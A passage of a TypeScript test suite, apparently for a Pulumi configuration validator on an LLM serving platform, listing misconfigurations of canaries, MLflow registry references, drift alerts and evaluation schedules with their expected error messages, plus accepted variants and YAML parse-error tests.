  ["dev", "model named like the AI gateway's reserved route rule", [set(["models", 0, "name"], "route-not-found")], P("models[0].name"), /"route-not-found" is reserved by the AI gateway/],
  ["dev", "GGUF file on a vLLM canary", [roomForCanary, canary({ ggufFile: "m.gguf" })], P("models[0].canary.ggufFile"), /only used with engine "llamacpp"/],
  ["dev", "replica count on the canary", [roomForCanary, canary({}), set(["models", 0, "canary", "maxReplicas"], 1)], P("models[0].canary.maxReplicas"), /unknown key/],
  ["dev", "canary whose model the cache cannot hold", [roomForCanary, canary({ model: "Qwen/Qwen2.5-72B-Instruct" })], P("models[0].cacheGiB"), /cannot hold the model's weights \(\d+(\.\d+)? GiB, bf16 size of Qwen\/Qwen2\.5-72B-Instruct\)/],
  ["dev", "more canaries than the LLM API's route has rules for", [set(["models"], Array.from({ length: 6 }, (_, index) => ({ name: `m${index}`, model: "Qwen/Qwen2.5-1.5B-Instruct", gpuPool: "l4", canary: { version: "v2", weight: 10 } })))], P("models"), /at most 15 route rules \(AIGatewayRoute maxItems\): one per model and two more per canary; this stack needs 18/],
  ["dev", "canary of a model served from the registry", [roomForCanary, set(["models", 0, "weightsFrom"], "bucket"), set(["models", 0, "registry"], "models:/qwen-small@champion"), canary({})], P("models[0].canary"), /a model served from the registry \(registry models:\/qwen-small@champion\) takes no canary here/],
  ["prod", "canary URL as its model", [canary({ model: "https://huggingface.co/Qwen/Qwen2.5-7B-Instruct" })], P("models[0].canary.model"), /did you mean "Qwen\/Qwen2\.5-7B-Instruct"/],
];

const lifecycle: Row[] = [
  ["dev", "registry version written as a stage", [set(["models", 0, "weightsFrom"], "bucket"), set(["models", 0, "registry"], "models:/qwen-small/Production")], P("models[0].registry"), /not a version number; MLflow stages are deprecated: use an alias instead \(models:\/qwen-small@<alias>\)/],
  ["gke-dev", "run URI as the registry reference", [set(["models", 0, "weightsFrom"], "bucket"), set(["models", 0, "registry"], "runs:/0a1b2c/model")], P("models[0].registry"), /an MLflow model URI: models:\/<registered model>\/<version>/],
  ["dev", "registry pinned to latest", [set(["models", 0, "weightsFrom"], "bucket"), set(["models", 0, "registry"], "models:/qwen-small/latest")], P("models[0].registry"), /"latest" moves with every registration/],
  ["prod", "reserved alias", [set(["models", 0, "bucketLoad"], "copy"), set(["models", 0, "registry"], "models:/llama-70b@v3")], P("models[0].registry"), /reserved by MLflow/],
  ["dev", "registry version with the Hub as source", [set(["models", 0, "registry"], "models:/qwen-small@champion"), set(["models", 0, "weightsFrom"], "hub")], P("models[0].weightsFrom"), /conflicts with registry models:\/qwen-small@champion: .*set weightsFrom: bucket/],
  ["prod", "registry version streamed", [set(["models", 0, "registry"], "models:/llama-70b/4"), set(["models", 0, "bucketLoad"], "stream")], P("models[0].bucketLoad"), /registry models:\/llama-70b\/4 is resolved when a pod starts; use "copy"/],
  ["local", "registry version on llama.cpp", [set(["models", 0, "registry"], "models:/qwen-tiny@champion")], P("models[0].registry"), /llama\.cpp cannot load/],
  ["dev", "registry version without the registry", [set(["models", 0, "weightsFrom"], "bucket"), set(["addons", "mlflow"], { enabled: false }), set(["models", 0, "registry"], "models:/qwen-small@champion")], P("models[0].registry"), /this stack does not run: enable addons\.mlflow/],
  ["gke-dev", "drift ratio of 1 for one model", [set(["models", 0, "drift"], { ttftRatio: 1 })], P("models[0].drift.ttftRatio"), /must be > 1: a ratio of 1 is no change/],
  ["dev", "error-rate rise of 100% for one model", [set(["models", 0, "drift"], { errorRateIncrease: 1 })], P("models[0].drift.errorRateIncrease"), /must be < 1: .*could never fire/],
  ["local", "drift thresholds on a llama.cpp model", [set(["models", 0, "drift"], { promptTokensRatio: 3 })], P("models[0].drift"), /exports no per-request token histograms .*could never fire/],
  ["dev", "short drift window as long as the baseline", [set(["addons", "monitoring", "drift", "shortWindow"], "1d")], P("addons.monitoring.drift.shortWindow"), /not shorter than baselineWindow 1d/],
  ["dev", "drift baseline longer than Prometheus keeps samples", [set(["addons", "monitoring", "drift", "baselineWindow"], "30d")], P("addons.monitoring.drift.baselineWindow"), /reaches past Prometheus's retention \(addons\.monitoring\.retentionDays \d+\)/],
  ["prod", "drift window in seconds", [set(["addons", "monitoring", "drift", "shortWindow"], "3600s")], P("addons.monitoring.drift.shortWindow"), /a duration such as 30m, 1h or 1d/],
  ["gke-dev", "evaluation score above 1", [set(["addons", "evaluation"], { minScore: 80 })], P("addons.evaluation.minScore"), /must be <= 1: the score is the fraction of prompts answered right/],
  ["dev", "evaluation score of 0 for one model", [set(["models", 0, "evaluation"], { minScore: 0 })], P("models[0].evaluation.minScore"), /must be > 0: a score is never below 0, so the alert could never fire/],
  ["prod", "evaluation drop of the whole score", [set(["addons", "evaluation"], { maxDropFromBaseline: 1 })], P("addons.evaluation.maxDropFromBaseline"), /must be < 1: .*could never fire/],
  ["prod", "evaluation schedule at minute 99", [set(["addons", "evaluation"], { schedule: "99 */2 * * *" })], P("addons.evaluation.schedule"), /99 is not a minute \(0 to 59\) in "99"/],
  ["dev", "evaluation schedule in month 13", [set(["addons", "evaluation"], { schedule: "0 6 1 1-13 *" })], P("addons.evaluation.schedule"), /13 is not a month \(1 to 12\) in "1-13"/],
  ["dev", "evaluation schedule with seconds", [set(["addons", "evaluation"], { schedule: "0 0 * * * *" })], P("addons.evaluation.schedule"), /a five-field cron schedule/],
  ["k3s-lab", "evaluation on a stack without the registry", [set(["addons", "evaluation"], { enabled: true })], P("addons.evaluation.enabled"), /needs .*addons\.mlflow \(records the scores\)/],
];


const corpus: Row[] = [...namespaces, ...credentials, ...cloudNames, ...kubernetesNames, ...storage, ...sizes, ...environments, ...structure, ...hostile, ...canaries, ...lifecycle];

describe("the mistake corpus", () => {
  it("holds at least 100 distinct mistakes across all five stack files (with the 63 in config.test.ts)", () => {
    expect(new Set(corpus.map(([, kind]) => kind)).size).toBeGreaterThanOrEqual(100 - 63);
    expect(corpus.length + 63).toBeGreaterThanOrEqual(100);
    expect(new Set(corpus.map(([stack]) => stack))).toEqual(new Set(["dev", "prod", "gke-dev", "k3s-lab", "local"]));
  });
});

describe.each([
  ["namespaces", namespaces], ["credentials in values", credentials], ["cloud names", cloudNames], ["Kubernetes and DNS names", kubernetesNames],
  ["object storage", storage], ["sizes", sizes], ["environment vs stack name", environments], ["structure and types", structure], ["hostile strings", hostile],
  ["canaries", canaries], ["model lifecycle", lifecycle],
] as const)("%s are rejected with the key path, the bad value and what is allowed", (_category, rows) => {
  it.each(rows)("%s: %s", (stack, _kind, mutations, path, words, asStack) => {
    const errors = errorsOf(validateStack(stack, mutations, secretsFor(stack), asStack ?? stack));
    const matching = errors.filter((error) => error.startsWith(`${path}:`));
    expect(matching, `errors were:\n${errors.join("\n")}`).not.toHaveLength(0);
    expect(matching.join("\n")).toMatch(words);
    const last = mutations[mutations.length - 1];
    const value = last && "set" in last ? last.to : undefined;
    const aboutTheKey = /unknown (config namespace|key)/.test(matching.join("\n"));
    if (!aboutTheKey && (typeof value === "string" || typeof value === "number") && !/(hf_|ghp_|AKIA|PRIVATE KEY|s3cr3t)/.test(String(value))) {
      // The bad value itself is quoted (long ones are cut at 80 characters).
      expect(matching.join("\n")).toContain(JSON.stringify(value).slice(0, 40));
    }
  });
});

describe("credentials in values", () => {
  it.each(credentials)("%s: %s never prints the credential", (stack, _kind, mutations, path) => {
    const errors = errorsOf(validateStack(stack, mutations, secretsFor(stack))).join("\n");
    expect(errors).toContain(path);
    for (const secret of [hfLike, ghLike, "s3cr3tvalue", "minio-s3cr3t", "abcdef0123", "IOSFODNN7EXAMPLE", "b3BlbnNzaA", "XXXXXXXX", "glpat-abcdef0123456789"]) {
      expect(errors).not.toContain(secret);
    }
  });
});

// Legitimate variants a user may make; each must stay valid.
const accepted: [string, string, Mutation[], string?][] = [
  ["dev", "another AWS region", [set(["cluster", "region"], "eu-west-1")]],
  ["dev", "a newer system instance type", [set(["cluster", "systemPool", "instanceType"], "m7i.xlarge")]],
  // Without an instance store set-up the weights sync downloads 148 GiB onto the data volume: 200 GiB is too small.
  ["prod", "a Bottlerocket GPU pool", [set(["cluster", "gpuPools", 0, "amiType"], "BOTTLEROCKET_x86_64_NVIDIA"), set(["cluster", "gpuPools", 0, "diskSizeGiB"], 300)]],
  ["prod", "a cache that just holds Llama 70B", [set(["models", 0, "cacheGiB"], 140)]],
  ["dev", "a private model with its weights size", [set(["models", 0, "model"], "acme/private-3b"), set(["models", 0, "weightsGiB"], 6), set(["models", 0, "cacheGiB"], 20)]],
  ["gke-dev", "a bigger system machine type", [set(["cluster", "systemPool", "machineType"], "n2-standard-8")]],
  ["gke-dev", "another region with its zones", [set(["cluster", "region"], "europe-west4"), set(["cluster", "nodeZones"], ["europe-west4-a", "europe-west4-b", "europe-west4-c"])]],
  ["gke-dev", "a dev stack named for staging", [], "gke-staging"],
  ["k3s-lab", "a lab MinIO over http outside prod", [set(["cluster", "objectStorage", "endpoint"], "http://minio.lab.example.com:9000")]],
  ["k3s-lab", "an app-of-apps repository on a self-hosted https Git server", [set(["addons", "argocd", "appOfApps"], { repoUrl: "https://git.lab.internal/org/apps.git" })]],
  ["local", "a GPU pool with NVIDIA's product label", [set(["cluster", "gpuPools"], [{ name: "l4", nodeSelector: { "nvidia.com/gpu.product": "NVIDIA-L4" }, tolerations: [{ key: "nvidia.com/gpu", operator: "Exists", effect: "NoSchedule" }], gpusPerNode: 1, nodes: 2 }])]],
  ["local", "object storage on a workstation MinIO", [set(["cluster", "objectStorage"], { endpoint: "http://127.0.0.1:9000", bucket: "llm-models" })]],
  ["prod", "prod deployed as the production stack", [], "production"],
  ["dev", "a dev copy of a prod stack, with the loud override", [set(["allowEnvironmentNotMatchingStackName"], true)], "prod-copy"],
  ["dev", "a provider setting in its own namespace", [set(["aws:region"], "us-east-1")]],
  ["k3s-lab", "a 20-character stack name with short pool names", [], "k3s-lab-eu-west-rack"],
  ["dev", "a canary of a bigger model at 10%", [roomForCanary, canary({ model: "Qwen/Qwen2.5-3B-Instruct" })]],
  ["dev", "a canary rolled back to 0%, still deployed", [roomForCanary, canary({ weight: 0 })]],
  ["prod", "a canary promoted to 100% with its own context length", [set(["cluster", "gpuPools", 0, "maxSize"], 4), canary({ weight: 100, maxModelLen: 16384 })]],
];

describe("legitimate variants of the committed stacks are accepted", () => {
  it("covers at least 10 variants", () => expect(accepted.length).toBeGreaterThanOrEqual(10));
  it.each(accepted)("%s: %s", (stack, _kind, mutations, asStack) => {
    expect(errorsOf(validateStack(stack, mutations, secretsFor(stack), asStack ?? stack))).toEqual([]);
  });
});

describe("stack files that are not valid YAML", () => {
  const committed = readFileSync(join(repoRoot, "Pulumi.dev.yaml"), "utf8");
  const file = "Pulumi.dev.yaml";
  const problem = (text: string) => {
    try {
      parseStackYaml(file, text);
      return "";
    } catch (error) {
      expect(error).toBeInstanceOf(StackFileError);
      return (error as Error).message;
    }
  };

  it("names the file, line and key path of a duplicate key", () => {
    const text = committed.replace("    natGateways: single\n", "    natGateways: single\n    natGateways: perAz\n");
    expect(problem(text)).toMatch(/Pulumi\.dev\.yaml:\d+:\d+: duplicate key config\.llm-platform:cluster\.natGateways: a key may appear once per map/);
  });

  it("names the key path of a duplicate key inside a list item", () => {
    const text = committed.replace("        maxSize: 2\n", "        maxSize: 2\n        maxSize: 4\n");
    expect(problem(text)).toMatch(/duplicate key config\.llm-platform:cluster\.gpuPools\[0\]\.maxSize/);
  });

  it("names the file and line of a syntax error, with YAML's reason", () => {
    expect(problem(committed.replace("    provider: eks\n", "\tprovider: eks\n"))).toMatch(/Pulumi\.dev\.yaml:\d+:\d+: YAML syntax error: Tabs are not allowed as indentation/);
    expect(problem(committed.replace("instanceTypes: [g6.xlarge, g6.2xlarge]", "instanceTypes: [g6.xlarge, g6.2xlarge"))).toMatch(/Pulumi\.dev\.yaml:\d+:\d+: YAML syntax error: /);
  });

  it("reads the committed file without complaint", () => expect(problem(committed)).toBe(""));
});
